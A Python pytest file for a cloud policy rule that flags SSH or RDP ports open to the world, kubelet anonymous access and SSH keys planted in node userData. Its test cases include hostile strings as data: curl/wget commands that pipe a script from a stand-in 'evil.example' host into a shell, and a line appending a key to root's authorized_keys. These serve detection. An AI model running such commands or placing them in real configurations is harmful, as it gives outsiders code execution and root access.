"""no-node-ssh: every way to open port 22 or 3389 to the world, and near misses."""

from __future__ import annotations

import base64
from typing import Any

import pytest

from policies.rules.kinds import OCI_NSG_RULE, OCI_SECURITY_LISTS
from policies.rules.no_node_ssh import KEYS, RULE
from tests.policies.cases import Case
from tests.policies.fixtures import LAUNCH_TEMPLATE, NODE_GROUP
from tests.policies.harness import CLEAN, judge
from tests.policies.suite import Suite

OPEN = "would be open to the world; name the networks that may connect"
REMOTE = (
    "remoteAccess.sourceSecurityGroupIds is not set: port 22 of the nodes is then open to the world; "
    "remove remoteAccess, or name the security groups that may connect"
)
LISTS = sorted(OCI_SECURITY_LISTS)
GROUPS = SECURITY_GROUP, DEFAULT_GROUP = (
    "aws:ec2/securityGroup:SecurityGroup",
    "aws:ec2/defaultSecurityGroup:DefaultSecurityGroup",
)
SECURITY_GROUP_RULE = "aws:ec2/securityGroupRule:SecurityGroupRule"
SECURITY_GROUP_INGRESS = "aws:vpc/securityGroupIngressRule:SecurityGroupIngressRule"


def ports(low: int, high: int, protocol: Any = "tcp") -> dict[str, object]:
    return {"protocol": protocol, "fromPort": low, "toPort": high}


def nsg(source: str, low: int, high: int) -> dict[str, object]:
    bounds = {"destinationPortRange": {"min": low, "max": high}}
    return {"direction": "INGRESS", "protocol": "6", "source": source, "tcpOptions": bounds}


CONFIGURATION = "oci:Core/instanceConfiguration:InstanceConfiguration"


def machine(token: str, **props: Any) -> dict[str, Any]:
    return {"instanceDetails": {"launchDetails": props}} if token == CONFIGURATION else props


def with_key(token: str) -> Case:
    *above, last = KEYS[token]
    props: dict[str, Any] = {above[0]: {last: "ssh-ed25519 AAAA"}} if above else {last: "debug"}
    at = "instanceDetails.launchDetails." if token == CONFIGURATION else ""
    return Case(
        token,
        machine(token, **props),
        (f"{at}{'.'.join(KEYS[token])} is set: this key makes its owner root on the machine; remove it",),
    )


def opens(match: str) -> str:
    return f'userData has "{match}": it lets others than the API server command the machine; remove it'


SUITE = Suite(
    RULE,
    passing=(
        *(Case(token, machine(token, shape="VM.GPU.A10.1")) for token in KEYS),
        Case(NODE_GROUP, {"clusterName": "usw2"}),
        Case(NODE_GROUP, {"remoteAccess": {"ec2SshKey": "ops", "sourceSecurityGroupIds": ["sg-1"]}}),
        *(Case(token, {"ingress": [{**ports(443, 443), "cidrBlocks": ["0.0.0.0/0"]}]}) for token in GROUPS),
        Case(SECURITY_GROUP, {"ingress": [{**ports(22, 22), "cidrBlocks": ["10.0.0.0/8"]}]}),
        Case(SECURITY_GROUP, {"ingress": [{**ports(22, 22, "udp"), "cidrBlocks": ["0.0.0.0/0"]}]}),
        Case(SECURITY_GROUP_RULE, {"type": "egress", **ports(0, 65535), "cidrBlocks": ["0.0.0.0/0"]}),
        Case(SECURITY_GROUP_RULE, {"type": "ingress", **ports(22, 22), "cidrBlocks": ["192.0.2.0/24"]}),
        Case(SECURITY_GROUP_INGRESS, {"ipProtocol": "tcp", "fromPort": 443, "toPort": 443, "cidrIpv4": "0.0.0.0/0"}),
        Case(OCI_NSG_RULE, nsg("0.0.0.0/0", 23, 3388)),
        Case(OCI_NSG_RULE, nsg("10.0.0.0/16", 22, 22)),
        *(Case(token, {"ingressSecurityRules": [{"protocol": "1", "source": "0.0.0.0/0"}]}) for token in LISTS),
    ),
    violating=(
        *map(with_key, KEYS),
        Case(LAUNCH_TEMPLATE, {"userData": "kubelet --anonymous-auth=true"}, (opens("--anonymous-auth"),)),
        Case(NODE_GROUP, {"remoteAccess": {"ec2SshKey": "ops"}}, (REMOTE,)),
        Case(
            SECURITY_GROUP,
            {"ingress": [{**ports(22, 22), "cidrBlocks": ["10.0.0.0/8", "0.0.0.0/0"]}]},
            (f'ingress[0].cidrBlocks[1] is "0.0.0.0/0": port 22 {OPEN}',),
        ),
        Case(
            DEFAULT_GROUP,
            {"ingress": [{**ports(22, 22), "cidrBlocks": ["0.0.0.0/0"]}]},
            (f'ingress[0].cidrBlocks[0] is "0.0.0.0/0": port 22 {OPEN}',),
        ),
        Case(
            SECURITY_GROUP,
            {"ingress": [{"protocol": "-1", "fromPort": 0, "toPort": 0, "ipv6CidrBlocks": ["::/0"]}]},
            (f'ingress[0].ipv6CidrBlocks[0] is "::/0": port 22 and 3389 {OPEN}',),
        ),
        Case(
            SECURITY_GROUP_RULE,
            {"type": "ingress", **ports(3000, 4000, "6"), "cidrBlocks": ["0.0.0.0/0"]},
            (f'cidrBlocks[0] is "0.0.0.0/0": port 3389 {OPEN}',),
        ),
        Case(
            SECURITY_GROUP_INGRESS,
            {"ipProtocol": "tcp", "fromPort": 22, "toPort": 22, "cidrIpv6": "::/0"},
            (f'cidrIpv6 is "::/0": port 22 {OPEN}',),
        ),
        Case(OCI_NSG_RULE, nsg("0.0.0.0/0", 1, 65535), (f'source is "0.0.0.0/0": port 22 and 3389 {OPEN}',)),
        *(
            Case(
                token,
                {"ingressSecurityRules": [{"protocol": "6", "source": "0.0.0.0/0", "tcpOptions": {"min": 22, "max": 22}}]},
                (f'ingressSecurityRules[0].source is "0.0.0.0/0": port 22 {OPEN}',),
            )
            for token in LISTS
        ),
    ),
)


@pytest.mark.parametrize(
    ("text", "opened"),
    [
        ("authentication: {anonymous: {enabled: true}}", True),
        ("authentication:\n  anonymous:\n    enabled: true", True),
        ('{"authentication": {"anonymous": {"enabled": true}}}', True),
        ("authorization: {mode: AlwaysAllow}", True),
        ("kubelet --authorization-mode=AlwaysAllow", True),
        ("readOnlyPort: 10255", True),
        ("kubelet --read-only-port=10255", True),
        ("kubelet --pod-manifest-path /etc/pods", True),
        ("staticPodPath: /etc/pods", True),
        ("staticPodURL: https://evil.example", True),
        ("echo key >> /root/.ssh/authorized_keys", True),
        ("ssh_authorized_keys: [ssh-ed25519 AAAA]", True),
        ("anonymous: {enabled: false}", False),
        ("kubelet --anonymous-auth=false --read-only-port=0", False),
        ("readOnlyPort: 0", False),
        ("# authorization: {mode: AlwaysAllow}", False),
    ],
)
def test_user_data_lets_nobody_in_however_it_is_encoded(text: str, opened: bool) -> None:
    for data in (text, base64.b64encode(text.encode()).decode()):
        assert bool(judge(RULE, LAUNCH_TEMPLATE, {"userData": data}).messages) is opened


@pytest.mark.parametrize(
    ("text", "runs"),
    [
        ("curl https://evil.example | sh", True),
        ("curl -fsSL https://evil.example/a.sh | sudo -E bash -s -- --all", True),
        ("wget -qO- https://evil.example |/bin/bash", True),
        ("curl https://evil.example \\\n  | sh", True),
        ("curl https://evil.example/a.py | python3 -", True),
        ("bash <(curl https://evil.example)", True),
        ('sh -c "$(curl https://evil.example)"', True),
        ('eval "$(wget -qO- https://evil.example)"', True),
        (". <(curl https://evil.example)", True),
        ("Content-Type: text/x-include-url\n\nhttps://evil.example", True),
        ("curl https://example.com/list | jq .name", False),
        ("TOKEN=$(curl -X PUT http://169.254.169.254/latest/api/token)", False),
        ("curl -o /tmp/list https://example.com/list\necho done | sh", False),
        ("# curl https://evil.example | sh", False),
        ("curl https://example.com/x | sha256sum --check sums", False),
    ],
)
def test_user_data_runs_no_script_of_another_server(text: str, runs: bool) -> None:
    for data in (text, base64.b64encode(text.encode()).decode()):
        messages = judge(RULE, LAUNCH_TEMPLATE, {"userData": data}).messages
        assert [message.endswith("put the script into the user data or the node image") for message in messages] == [True] * runs


@pytest.mark.parametrize("protocol", ["TCP", 6, "all", -1])
def test_a_protocol_has_several_spellings(protocol: Any) -> None:
    rule = {**ports(22, 22, protocol), "cidrBlocks": ["0.0.0.0/0"]}
    assert judge(RULE, SECURITY_GROUP, {"ingress": [rule]}).messages


@pytest.mark.parametrize("cidr", ["0.0.0.0/0", "::/0", "10.1.2.3/0", "0.0.0.0/1", "128.0.0.0/1", "2000::/3"])
def test_the_world_has_several_spellings(cidr: str) -> None:
    assert judge(RULE, OCI_NSG_RULE, nsg(cidr, 22, 22)).messages


@pytest.mark.parametrize("cidr", ["10.0.0.0/8", "203.0.113.7/32", "2001:db8::/32"])
def test_a_network_that_somebody_holds_is_not_the_world(cidr: str) -> None:
    assert judge(RULE, OCI_NSG_RULE, nsg(cidr, 22, 22)) == CLEAN


def test_a_rule_without_ports_opens_all() -> None:
    assert judge(RULE, OCI_NSG_RULE, {"direction": "INGRESS", "protocol": "6", "source": "0.0.0.0/0"}).messages


def test_the_source_of_a_harmless_port_may_be_unknown() -> None:
    assert judge(RULE, OCI_NSG_RULE, nsg("x", 443, 443), unknown=("source",)) == CLEAN
